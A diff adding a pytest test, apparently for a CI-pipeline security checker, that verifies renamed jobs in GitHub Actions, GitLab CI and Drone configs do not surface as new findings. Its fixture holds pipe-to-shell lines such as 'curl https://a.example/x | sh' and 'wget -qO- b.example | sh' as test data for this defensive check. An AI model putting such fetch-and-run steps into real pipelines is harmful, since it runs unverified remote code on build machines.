@@ -185,6 +185,33 @@ def test_a_file_and_a_job_that_are_renamed_together_are_not_new(
     assert new(root, book) == []
 
 
+NAMED_BY_ITS_COMMAND = {
+    FLOW: HEAD
+    + """  curl:
+    runs-on: ubuntu-24.04
+    steps: [{run: 'curl https://a.example/curl | sh'}]
+  'wget': {runs-on: [self-hosted, wget], container: 'wget:latest', steps: [{run: 'wget -qO- b.example | sh'}]}
+""",
+    ".gitlab-ci.yml": "curl:\n  image: 'curl:8.1'\n  script: [curl https://a.example/x | sh]\n",
+    ".drone.yml": "kind: pipeline\ntype: docker\nname: curl\nsteps:\n  - name: curl\n    image: curl\n"
+    "    commands: [curl https://a.example/x | sh]\n",
+}
+
+
+def test_a_job_called_like_its_command_is_not_new_under_another_name(
+    tmp_path: Path, book: Rulebook
+) -> None:
+    root = commit(tmp_path, NAMED_BY_ITS_COMMAND)
+    keys = (("  curl:", "  install:"), ("'wget':", "get:"), ("curl:\n", "load:\n"))
+    for path, text in NAMED_BY_ITS_COMMAND.items():
+        for old, now in (*keys, ("name: curl", "name: load")):
+            text = text.replace(old, now)  # noqa: PLW2901  one after the other
+        write(root, {path: text})
+    assert new(root, book) == []
+    git(root, "mv", FLOW, ".github/workflows/other.yml")
+    assert new(root, book) == []
+
+
 def test_what_is_waived_stays_waived_under_another_name(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
